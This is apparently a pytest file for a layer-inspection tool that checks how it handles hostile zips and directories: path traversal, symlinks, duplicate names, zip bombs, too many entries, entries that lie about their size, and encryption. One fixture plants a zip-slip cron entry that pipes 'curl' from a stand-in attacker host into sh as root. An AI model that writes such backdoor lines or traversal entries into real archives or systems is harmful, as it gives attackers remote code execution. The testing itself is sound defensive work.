"""Reading layers safely: hostile zips (bomb, traversal, symlinks, duplicates, 100,000 entries, lying sizes,
encryption) and directories, through the library and through `layergate inspect`'s exit codes."""

from __future__ import annotations

import hashlib
import os
import zipfile
from pathlib import Path

import pytest
from layer_builder import LayerZip, many_entries_zip, patch_declared_size, write_tree

from layergate.cli import main
from layergate.layer.archive import Problem, declared_entries, open_layer
from layergate.layer.inventory import FileEntry, inspect_layer
from layergate.layer.limits import Limits


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def test_traversal_entries_are_findings_and_read_in_memory(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    layer = (LayerZip(tmp_path / "slip.zip")
             .add("python/ok.py", "x = 1\n")
             .add("../../etc/cron.d/backdoor", "* * * * * root curl https://evil.example.com/x | sh\n")
             .add("/etc/profile.d/x.sh", "export A=1\n")
             .add("python/../../../outside.py", "pass\n")
             .add("C:/Windows/evil.bat", "echo\n")
             .close())
    contents = inspect_layer(str(layer))
    assert contents.problems == (
        Problem("path-traversal", "../../etc/cron.d/backdoor", "entry name contains '..' (zip slip)"),
        Problem("path-traversal", "/etc/profile.d/x.sh", "entry name is an absolute path (zip slip)"),
        Problem("path-traversal", "python/../../../outside.py", "entry name contains '..' (zip slip)"),
        Problem("path-traversal", "C:/Windows/evil.bat", "entry name is an absolute path (zip slip)"),
    )
    assert [f.path for f in contents.files] == [
        "python/ok.py", "../../etc/cron.d/backdoor", "/etc/profile.d/x.sh", "python/../../../outside.py",
        "C:/Windows/evil.bat",
    ]
    assert [(e.value, e.files) for e in contents.endpoints] == [
        ("https://evil.example.com/x", ("../../etc/cron.d/backdoor",)),
    ]
    assert contents.complete
    assert not (tmp_path.parent.parent / "etc").exists()
    code, out, _ = run(capsys, "inspect", str(layer))
    assert code == 1
    assert "Problems (4)\n  path-traversal  ../../etc/cron.d/backdoor   entry name contains '..' (zip slip)\n" in out


def test_symlinks_are_listed_with_their_target_and_never_followed(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("https://internal.example.com/token\n")
    layer = (LayerZip(tmp_path / "links.zip")
             .symlink("python/creds", str(secret))
             .symlink("extensions/agent", "../bin/agent")
             .add("bin/agent", "#!/bin/sh\n", 0o755)
             .close())
    contents = inspect_layer(str(layer))
    assert contents.problems == (
        Problem("symlink", "python/creds", "symbolic link (not followed)"),
        Problem("symlink", "extensions/agent", "symbolic link (not followed)"),
    )
    target = str(secret).encode()
    assert contents.files[0] == FileEntry("python/creds", len(target), hashlib.sha256(target).hexdigest(), 0o777,
                                          symlink=True)
    assert contents.endpoints == ()  # the target file's URL was never read
    assert [(e.path, e.kind, e.detail) for e in contents.extensions] == [
        ("extensions/agent", "symlink", "symbolic link to ../bin/agent"),
    ]


def test_duplicate_names_are_reported_and_both_copies_inspected(tmp_path: Path) -> None:
    layer = (LayerZip(tmp_path / "dup.zip")
             .add("python/app.py", "URL = 'https://api.example.com/'\n")
             .add("python/app.py", "URL = 'https://exfil.example.net/'\n")
             .close())
    contents = inspect_layer(str(layer))
    assert contents.problems == (
        Problem("duplicate-name", "python/app.py",
                "the name appears more than once; extraction keeps only one of them"),
    )
    assert [e.value for e in contents.endpoints] == ["https://api.example.com/", "https://exfil.example.net/"]
    assert len(contents.files) == 2


def test_zip_bomb_is_refused_before_anything_is_read(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    layer = LayerZip(tmp_path / "bomb.zip").add("python/zeros.bin", bytes(20_000_000)).close()
    compressed = zipfile.ZipFile(layer).getinfo("python/zeros.bin").compress_size
    contents = inspect_layer(str(layer))
    ratio = 20_000_000 // compressed
    assert contents.problems == (
        Problem("compression-ratio", "python/zeros.bin", f"expands {ratio}:1 to 20000000 bytes, more than the "
                "limit of 100:1 (zip bomb; --max-ratio)"),
    )
    assert (contents.files, contents.complete) == ((), False)
    code, out, err = run(capsys, "inspect", str(layer))
    assert code == 1
    assert "  INCOMPLETE: some content was not read (see problems); nothing below covers it\n" in out
    assert err == f"layergate: {layer}: not every entry was read; see the problems listed\n"
    # A reviewer who knows the file is harmless can raise the limit.
    code, out, _ = run(capsys, "inspect", str(layer), "--max-ratio", str(ratio + 1))
    assert code == 0


def test_total_size_limit(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    layer = LayerZip(tmp_path / "big.zip").add("python/a.py", "a" * 1500).add("python/b.py", "b" * 1500).close()
    contents = inspect_layer(str(layer), Limits(max_bytes=2048))
    assert contents.problems == (
        Problem("too-large", "", "3000 bytes uncompressed, more than the limit of 2048 (--max-size)"),
    )
    assert not contents.complete
    code, out, _ = run(capsys, "inspect", str(layer), "--max-size", "2K")
    assert code == 1
    assert "  too-large  (archive)  3000 bytes uncompressed, more than the limit of 2048 (--max-size)\n" in out


def test_hundred_thousand_entries_are_refused_before_parsing(tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    layer = many_entries_zip(tmp_path / "many.zip", 100_000)
    assert declared_entries(str(layer)) == 100_000
    with open_layer(str(layer)) as opened:
        assert opened.problems == [
            Problem("too-many-files", "", "100000 entries, more than the limit of 50000 (--max-files)"),
        ]
        assert opened.members == [] and opened.refused
    code, out, _ = run(capsys, "inspect", str(layer), "--format", "json")
    assert code == 1
    assert '    {"kind": "too-many-files", "path": null, "message": "100000 entries, more than the limit of 50000' \
           ' (--max-files)"}' in out
    # The archive itself is well formed: zipfile lists it, and a small one of the same make reads fine.
    assert len(zipfile.ZipFile(layer).infolist()) == 100_000
    contents = inspect_layer(str(many_entries_zip(tmp_path / "few.zip", 3)), Limits(max_files=3))
    assert (len(contents.files), contents.problems, contents.complete) == (3, (), True)


def test_an_entry_that_lies_about_its_size_is_an_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    good = LayerZip(tmp_path / "good.zip").add("python/data.txt", "z" * 10_000, method=zipfile.ZIP_DEFLATED).close()
    liar = tmp_path / "liar.zip"
    liar.write_bytes(patch_declared_size(good.read_bytes(), "python/data.txt", 10))
    code, out, err = run(capsys, "inspect", str(liar))
    assert (code, out) == (2, "")
    assert err == f"layergate: error: {liar}: member 'python/data.txt' is corrupt: it expands past its declared " \
                  "size of 10 bytes\n"


def test_encrypted_entry_is_unreadable_not_skipped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    layer = LayerZip(tmp_path / "enc.zip").add("python/ok.py", "x = 1\n").add("python/hidden.py", "y = 2\n").close()
    data = bytearray(layer.read_bytes())
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.rfind(signature)  # the last entry is python/hidden.py
        data[at + flag_at] |= 0x1
    layer.write_bytes(bytes(data))
    contents = inspect_layer(str(layer))
    assert contents.problems == (
        Problem("encrypted", "python/hidden.py", "encrypted entry: its content cannot be inspected"),
    )
    assert contents.files[1] == FileEntry("python/hidden.py", 6, "", 0o644)
    assert not contents.complete
    assert run(capsys, "inspect", str(layer))[0] == 1


@pytest.mark.parametrize(("name", "data", "message"), [
    ("notes.txt", b"not a zip", "cannot open layer: not a zip archive"),
    ("missing.zip", None, "no such file or directory"),
])
def test_unopenable_inputs_are_one_line_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str,
                                              data: bytes | None, message: str) -> None:
    path = tmp_path / name
    if data is not None:
        path.write_bytes(data)
    assert run(capsys, "inspect", str(path)) == (2, "", f"layergate: error: {path}: {message}\n")


def test_directory_layer_symlinks_and_special_files(tmp_path: Path) -> None:
    root = write_tree(tmp_path / "layer", {"python/app.py": b"A = 'https://a.example.com/'\n",
                                           "extensions/agent": b"#!/usr/bin/env python3\n"},
                      {"extensions/agent": 0o755})
    (root / "python" / "outside").symlink_to(tmp_path)  # a directory link: never walked into
    (root / "python" / "link.py").symlink_to(root / "python" / "app.py")
    os.mkfifo(root / "python" / "pipe")
    contents = inspect_layer(str(root))
    assert contents.problems == (
        Problem("symlink", "python/link.py", "symbolic link (not followed)"),
        Problem("symlink", "python/outside", "symbolic link (not followed)"),
        Problem("special-file", "python/pipe", "special file (mode prw-r--r--)"),
    )
    assert [(f.path, f.mode, f.symlink) for f in contents.files] == [
        ("extensions/agent", 0o755, False),
        ("python/app.py", 0o644, False),
        ("python/link.py", None, True),
        ("python/outside", None, True),
    ]
    assert contents.archive_sha256 == ""
    assert [(e.path, e.detail, e.executable) for e in contents.extensions] == [
        ("extensions/agent", "script run by /usr/bin/env python3", True),
    ]


def test_directory_over_the_file_limit_is_refused(tmp_path: Path) -> None:
    root = write_tree(tmp_path / "layer", {f"python/m{i}.py": b"" for i in range(5)})
    contents = inspect_layer(str(root), Limits(max_files=4))
    assert contents.problems == (
        Problem("too-many-files", "", "more than the limit of 4 entries (--max-files)"),
    )
    assert (contents.files, contents.complete) == ((), False)


def test_zip_without_unix_permissions(tmp_path: Path) -> None:
    layer = LayerZip(tmp_path / "win.zip").no_permissions("extensions/agent.exe", b"MZ\x90\x00").close()
    contents = inspect_layer(str(layer))
    assert [(e.path, e.kind, e.detail, e.executable) for e in contents.extensions] == [
        ("extensions/agent.exe", "unknown", "neither an ELF binary nor a #! script", None),
    ]
